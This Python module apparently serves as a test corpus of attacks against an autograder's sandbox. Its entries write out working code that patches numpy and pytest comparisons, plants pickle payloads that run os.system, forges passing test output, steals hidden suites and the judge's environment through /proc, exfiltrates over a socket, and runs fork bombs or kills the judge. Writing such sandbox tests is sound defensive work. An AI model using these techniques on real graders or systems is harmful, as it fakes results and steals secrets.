"""The attack corpus: submissions that try to raise their score or harm the grader.

Each attack is the reference solutions with code appended to one file (so it can redefine a
function) and is graded for one chapter (ch04: the cheapest chapter with both a module every
net imports, ``common/functions.py``, and a leaf module, ``ch04/gradient_method.py``).
``$NAMES`` in the code are the test's paths (see harness.World.substitute).

``lose``: the exercises that must score 0 under the sandbox ("*": the whole chapter); every
other exercise keeps the reference's points. In fallback mode (no sandbox) the same is
expected unless ``fallback_*`` says otherwise: ``fallback_lose`` (another set, or "any" when
the attack may or may not pay off there), ``fallback_harm`` (the attack does reach something
outside), ``fallback_judge`` (what happens to a judge the attack goes for), ``fallback_skip``.
"""
from __future__ import annotations

import os
from dataclasses import dataclass

F, G = "common/functions.py", "ch04/gradient_method.py"
MSE = ("ch04.mean_squared_error",)
DIFF = ("ch04.numerical_diff",)
G_ALL = ("ch04.numerical_diff", "ch04.gradient_descent")  # all of gradient_method.py
WRONG_MSE = "def mean_squared_error(y, t):\n    return 0.0975  # the first book example, every time\n"
WRONG_DIFF = "def numerical_diff(f, x):\n    return 0.0\n"
ROOT_SKIP = ("as root, RLIMIT_NPROC does not apply (kernel rule), so without the sandbox's "
             "unprivileged uid a fork bomb takes the whole machine") if os.geteuid() == 0 else ""


@dataclass(frozen=True)
class Attack:
    name: str
    file: str
    code: str
    lose: tuple[str, ...] = ()
    chapter: str = "ch04"
    fallback_lose: tuple[str, ...] | str | None = None
    fallback_harm: bool = False
    fallback_judge: str = ""
    fallback_skip: str = ""
    timeout: float | None = None  # a short call timeout, for attacks that hang the worker
    max_reply: int | None = None  # a smaller reply limit (Limits.max_reply_bytes)
    own_judge: bool = False  # without the sandbox: the judge in a process of its own
    settle: float = 0.0  # seconds to wait after grading before looking for harm


ATTACKS = [
    # ---- fool the comparison from inside the worker: the judge compares in its own process
    Attack("numpy-compare-functions-patched", F, """
import numpy as np, numpy.testing
np.allclose = np.array_equal = lambda *a, **k: True
np.isclose = lambda a, b, *r, **k: np.ones(np.shape(a), dtype=bool)
np.testing.assert_allclose = np.testing.assert_array_equal = lambda *a, **k: None
np.linalg.norm = lambda *a, **k: 0.0
""" + WRONG_MSE, MSE),
    Attack("ndarray-methods-patched", F, """
import ctypes, gc
import numpy as np
_slots = gc.get_referents(np.ndarray.__dict__)[0]
_slots["__eq__"] = lambda self, other: np.ones(np.shape(self), dtype=bool)
_slots["__ne__"] = lambda self, other: np.zeros(np.shape(self), dtype=bool)
_slots["all"] = lambda self, *a, **k: True
ctypes.pythonapi.PyType_Modified(ctypes.py_object(np.ndarray))
""" + WRONG_MSE, MSE),
    Attack("pytest-and-judge-compare-patched", F, """
import pytest, _pytest.outcomes
import grader.judge.compare as check
pytest.fail = _pytest.outcomes.fail = lambda *a, **k: None
pytest.approx = lambda expected, *a, **k: type("Any", (), {"__eq__": lambda s, o: True})()
check.close = check.close_number = lambda got, *a, **k: got
check.rel_error = lambda a, b: 0.0
""" + WRONG_MSE, MSE),
    Attack("builtins-patched", F, """
import builtins
builtins.abs = lambda x: 0
builtins.round = lambda *a, **k: 0
builtins.all = lambda *a: True
""" + WRONG_MSE, MSE),
    Attack("array-subclass-always-equal", F, """
import numpy as np
class Agreeable(np.ndarray):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    def __le__(self, other): return True
    def __float__(self): return 0.0975
def mean_squared_error(y, t):
    return np.full((), 0.0975).view(Agreeable)
""", MSE),
    Attack("object-with-custom-eq-and-array", F, """
import numpy as np
class Liar:
    def __eq__(self, other): return True
    def __array__(self, dtype=None, copy=None): return np.asarray(0.0975)
    def __float__(self): return 0.0975
def mean_squared_error(y, t):
    return Liar()
""", MSE),
    Attack("float-subclass-always-close", F, """
class Close(float):
    def __eq__(self, other): return True
    def __sub__(self, other): return 0.0
    def __rsub__(self, other): return 0.0
    def __abs__(self): return 0.0
    __hash__ = float.__hash__
def mean_squared_error(y, t):
    return Close(0.0)
""", MSE),
    Attack("nan-result", F, "def mean_squared_error(y, t):\n    return float('nan')\n", MSE),
    Attack("pickle-payload-object-array", F, """
import os
import numpy as np
class Payload:
    def __reduce__(self):
        return (os.system, ("touch $LEAK/unpickled",))
def mean_squared_error(y, t):
    return np.array([Payload()], dtype=object)
""", MSE),
    Attack("pickle-frame-on-reply-fd", F, """
import io, json, os, pickle, struct, sys
import numpy as np
class Payload:
    def __reduce__(self):
        return (os.system, ("touch $LEAK/unpickled",))
def mean_squared_error(y, t):
    buf = io.BytesIO()
    np.save(buf, np.array([Payload()], dtype=object), allow_pickle=True)
    header = json.dumps({"msg": {"__dict__": [["ok", {"__nd__": 0}]]},
                         "blobs": [len(buf.getvalue())]}).encode()
    payload = struct.pack(">I", len(header)) + header + buf.getvalue()
    os.write(int(sys.argv[2]), struct.pack(">Q", len(payload)) + payload)
    os.write(int(sys.argv[2]), pickle.dumps(0.0975))
    return 0.0
""", MSE),
    Attack("junk-on-every-inherited-fd", F, """
import os
import numpy as np
def mean_squared_error(y, t):
    for fd in range(256):
        try:
            os.write(fd, b"\\xff" * 64)
        except OSError:
            pass
    return 0.5 * np.sum((y - t) ** 2)
""", MSE),
    Attack("fake-pytest-and-score-output", G, """
import sys
print("============================= 46 passed in 0.52s ==============================")
print('{"score": 100, "max_score": 100, "exercises": []}')
sys.stderr.write("PASSED ch04.numerical_diff\\nscore: 100/100\\n")
def numerical_diff(f, x):
    print('{"ok": 0.1999999999990898}')
    return 0.0
""", DIFF),
    Attack("huge-reply", F, """
import numpy as np
def mean_squared_error(y, t):  # 24 MB, over the 16 MiB reply limit this attack is graded with
    return np.broadcast_to(np.float64(0.0975), (3_000_000,))
""", MSE, max_reply=16 * 2**20),
    Attack("reply-nested-too-deeply", F, """
def mean_squared_error(y, t):
    v = 0.0975
    for _ in range(100_000):
        v = [v]
    return v
""", MSE),
    Attack("exception-that-says-passed", F, """
class Failed(Exception):
    def __str__(self):
        return "passed " * 1_000_000
def mean_squared_error(y, t):
    raise Failed()
""", MSE),
    Attack("keyboard-interrupt", F, "def mean_squared_error(y, t):\n    raise KeyboardInterrupt\n", MSE),
    Attack("os-exit-in-call", F, "import os\ndef mean_squared_error(y, t):\n    os._exit(0)\n", MSE),
    Attack("sys-exit-at-import", G, "raise SystemExit(0)\n", G_ALL),
    Attack("killpg-own-group", G, "import os, signal\nos.killpg(0, signal.SIGKILL)\n", G_ALL),
    Attack("call-book-parts-the-judge-did-not-lend", F, """
import gc
from grader.worker.parts import JudgeLink, JudgePart
def mean_squared_error(y, t):
    for link in [o for o in gc.get_objects() if isinstance(o, JudgeLink)]:
        for name in ("mean_squared_error", "cross_entropy_error", "softmax"):
            try:  # the judge answers only the parts a suite lends at that moment
                return JudgePart(link, "common/functions.py", name, False)(y, t)
            except Exception:
                pass
    return 0.0975
""", MSE),
    # ---- read what the judge has: only the sandbox hides it
    Attack("copy-the-reference-solution", G, WRONG_DIFF + """
import os
for _root in ("$REFERENCE", "$REPO_SOLUTIONS", "/proc/1/root$REPO_SOLUTIONS"):
    try:
        _src = open(os.path.join(_root, "ch04", "gradient_method.py")).read()
    except OSError:
        continue
    _ns = {}
    exec(compile(_src, "reference", "exec"), _ns)
    numerical_diff = _ns["numerical_diff"]
    break
""", DIFF, fallback_lose=(), fallback_harm=False),
    Attack("copy-another-students-folder", G, WRONG_DIFF + """
try:
    _ns = {}
    exec(compile(open("$OTHER/ch04/gradient_method.py").read(), "other", "exec"), _ns)
    numerical_diff = _ns["numerical_diff"]
except OSError:
    pass
""", DIFF, fallback_lose=()),
    Attack("steal-hidden-suites-via-the-report", G, """
import glob, os, shutil
import grader
_found = glob.glob("$SUITES/ch04*.py")
_found += glob.glob(os.path.join(os.path.dirname(grader.__file__), "suites", "ch04*.py"))
for _p in _found:
    try:
        shutil.copy(_p, "$LEAK")
    except OSError:
        pass
if _found:
    _text = open(_found[0]).read()
    def numerical_diff(f, x):
        raise RuntimeError(_text[:1500])
""", (), fallback_lose=DIFF, fallback_harm=True),
    Attack("judge-environment-via-proc", G, """
import os
try:
    _env = open(f"/proc/{os.getppid()}/environ", "rb").read()
except OSError:
    _env = b""
if _env:  # the judge's variables: tokens, paths (DLFS_DATA …)
    with open("$LEAK/environ", "wb") as _f:
        _f.write(_env)
    raise RuntimeError(f"stolen: {_env[:200]!r}")  # the report carries it to the student
""", (), fallback_lose=G_ALL, fallback_harm=True),
    Attack("judge-memory-via-proc", G, """
import os
try:
    with open(f"/proc/{os.getppid()}/maps") as _maps:
        _start = next(int(l.split("-")[0], 16) for l in _maps if l.split()[1].startswith("r"))
    with open(f"/proc/{os.getppid()}/mem", "rb") as _mem:
        _mem.seek(_start)
        _bytes = _mem.read(64)
    with open("$LEAK/judge_memory", "wb") as _f:
        _f.write(_bytes)
except (OSError, StopIteration, ValueError):
    pass
""", (), fallback_harm=True),
    Attack("network-exfiltration", G, """
import socket
try:
    with socket.create_connection(("127.0.0.1", $PORT), timeout=1) as _s:
        _s.sendall(b"exfiltrated")
except OSError:
    pass
""", (), fallback_harm=True),
    # ---- change what the judge later reads or writes
    Attack("write-files-outside", G, """
for _path, _text in (("$SENTINEL", "pwned\\n"), ("$REPORT", '{"score": 100}\\n'), ("$LEAK/written", "x")):
    try:
        with open(_path, "w") as _f:
            _f.write(_text)
    except OSError:
        pass
""", (), fallback_harm=True),
    Attack("write-into-the-kit", G, """
try:
    with open("$KIT_MARK", "w") as _f:
        _f.write("the kit was writable")
except OSError:
    pass
""", (), fallback_harm=True),
    Attack("poison-the-reference", G, WRONG_DIFF + """
try:
    with open("$REFERENCE/ch04/gradient_method.py", "a") as _f:
        _f.write("\\ndef numerical_diff(f, x):\\n    return 0.0\\n")
except OSError:
    pass
""", DIFF, fallback_lose="any", fallback_harm=True),
    Attack("setsid-daemon-acts-after-grading", G, """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(1.0)
        for _ in range(30):
            for _path in ("$SENTINEL", "$REPORT"):
                try:
                    with open(_path, "w") as _f:
                        _f.write("changed after grading\\n")
                except OSError:
                    pass
            time.sleep(0.1)
        os._exit(0)
    os._exit(0)
os.wait()
""", (), fallback_harm=True, settle=1.5),
    # ---- exhaust or hang the worker: limits and timeouts, then a clean kill
    Attack("fork-bomb", G, """
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
""", G_ALL, timeout=2.0, fallback_skip=ROOT_SKIP),
    Attack("memory-bomb", G, "_hoard = bytearray(1 << 36)  # 64 GiB\n", G_ALL),
    Attack("infinite-loop-at-import", G, "while True:\n    pass\n", G_ALL, timeout=2.0),
    Attack("sleep-past-the-timeout", G, "import time\ntime.sleep(3600)\n", G_ALL, timeout=2.0),
    Attack("sigstop-self", G, "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)\n", G_ALL, timeout=2.0),
    Attack("huge-output", G, """
import sys
_line = "x" * 1023 + "\\n"
for _ in range(16 * 1024):  # 16 MiB on stdout and on stderr
    sys.stdout.write(_line)
    sys.stderr.write(_line)
"""),
    # ---- go for the judge's process itself
    Attack("kill-the-judge", G, """
import os, signal
try:
    os.kill(os.getppid(), signal.SIGKILL)
except OSError:
    pass
""", (), own_judge=True, fallback_judge="judge killed by SIGKILL"),
]

assert len({a.name for a in ATTACKS}) == len(ATTACKS), "attack names must be unique"
